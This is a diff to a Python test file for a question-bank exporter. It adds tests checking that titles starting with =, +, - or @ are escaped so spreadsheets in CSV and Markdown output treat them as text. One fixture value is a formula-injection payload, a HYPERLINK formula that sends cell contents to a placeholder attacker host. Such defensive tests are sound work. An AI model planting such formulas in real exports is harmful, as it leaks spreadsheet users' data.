@@ -6,16 +6,22 @@ import csv
 import io
 import json
 import re
+import shutil
+import subprocess
+import sys
 
+import openpyxl
 import pytest
+import yaml
 
 from exporter.cli import main
+from exporter.coverage import Coverage, CoverageRow, layout_coverage, packet_coverage, questions_coverage
 from exporter.listing import short_label, wrap_captions
 from exporter.loading import load_bank, load_layout
 from exporter.packet import make_packet
-from exporter.planning import Coverage, CoverageRow, layout_coverage, packet_coverage, questions_coverage
+from exporter.text import spreadsheet_text
 
-from .conftest import MINI, MINI_BANK, MINI_LAYOUTS, SHIPPED_ROLES
+from .conftest import FIXTURES, MINI, MINI_BANK, MINI_LAYOUTS, SHIPPED_ROLES, soffice_convert
 
 
 @pytest.fixture
@@ -155,3 +161,101 @@ def test_short_labels_and_wrapped_captions():
     widths, lines = wrap_captions(["#", "Effective team member", "Recommendation"], [1, 3, 5])
     assert widths == [1, 11, 14]  # a caption wraps at spaces onto two lines at most, never inside a word
     assert lines == [["", "Effective", ""], ["#", "team member", "Recommendation"]]
+
+
+# ------------------------------------------------------------------------------- formula injection
+
+FORMULA_TITLES = {  # question id -> a title a spreadsheet would run as a formula
+    "pipeline": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "pipeline-backup": "+1+1",
+    "toil": "-2+3",
+    "planning": "@SUM(1,2)",
+}
+
+
+@pytest.fixture
+def formula_bank(tmp_path):
+    """The mini bank with formula titles, and a category label that starts like one."""
+    bank = tmp_path / "bank"
+    shutil.copytree(MINI_BANK, bank)
+    path = bank / "questions" / "mini.yaml"
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    for question in data["questions"]:
+        question["title"] = FORMULA_TITLES[question["id"]]
+    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    taxonomy = bank / "taxonomy.yaml"
+    taxonomy.write_text(
+        taxonomy.read_text(encoding="utf-8").replace("label: Strategic direction", 'label: "=Strategic direction"'),
+        encoding="utf-8",
+    )
+    return bank
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Toil", "Toil"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_text(text, safe):
+    assert spreadsheet_text(text) == safe
+
+
+def test_csv_and_markdown_keep_formula_text_as_text(runner, formula_bank):
+    ids = ["--questions", ",".join(FORMULA_TITLES), "--bank", str(formula_bank)]
+    result = runner.invoke(main, ["coverage", *ids, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert {r["id"]: r["title"] for r in rows[:4]} == {qid: "'" + title for qid, title in FORMULA_TITLES.items()}
+    assert rows[4]["title"] == "Total weight"  # our own text and the figures are as they were
+    assert rows[0]["world-class"] == "1"
+    markdown = runner.invoke(main, ["coverage", *ids, "--format", "md"]).stdout
+    assert '| pipeline | \'=HYPERLINK("http://evil.example/?"&A1,"Click") | 1 | 0.5 | · | · |' in markdown
+    assert "| toil | '-2+3 | · | 1 | · | 0.5 |" in markdown
+    assert "| Question | Title | World-class | Outstanding operationally | '=Strategic direction |" in markdown
+
+
+def test_csv_formula_text_stays_text_in_libreoffice(runner, formula_bank, tmp_path):
+    """LibreOffice runs a CSV cell starting with = as a formula; the marked title stays text."""
+    ids = ",".join(FORMULA_TITLES)
+    result = runner.invoke(main, ["coverage", "--questions", ids, "--bank", str(formula_bank), "--format", "csv"])
+    path = tmp_path / "coverage.csv"
+    path.write_text(result.stdout, encoding="utf-8")
+    (converted,) = soffice_convert([path], "xlsx", tmp_path / "out")
+    sheet = openpyxl.load_workbook(converted).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    titles = [sheet.cell(row=r, column=3).value for r in range(2, 6)]
+    assert titles == ["'" + title for title in FORMULA_TITLES.values()]
+
+
+def test_loop_overview_table_keeps_formula_text_as_text(runner, formula_bank, tmp_path):
+    """The loop overview's Markdown table, the other table a reader may paste into a spreadsheet."""
+    layouts = FIXTURES / "loop" / "layouts"
+    arguments = ["--loop", "pair", "--bank", str(formula_bank), "--layouts", str(layouts), "-f", "json"]
+    result = runner.invoke(main, ["make", *arguments, "--candidate", "Al Smith", "-o", str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    markdown = (tmp_path / "al-smith" / "0-pair-overview.md").read_text(encoding="utf-8")
+    assert "| Questions | World-class at running this team | Outstanding operationally | '=Strategic direction |" in (
+        markdown
+    )
+
+
+def test_coverage_stays_below_the_commands():
+    """The guide and the loop overview import coverage: it must not bring the search, the views or the
+    layout writer (or anything that writes files) with it."""
+    script = "import sys, exporter.coverage; print(' '.join(m for m in sys.modules if m.startswith('exporter')))"
+    loaded = set(
+        subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True).stdout.split()
+    )
+    above = ("suggest", "planning_views", "layout_writer", "output", "render", "packet", "cli")
+    assert loaded & {f"exporter.{name}" for name in above} == set()
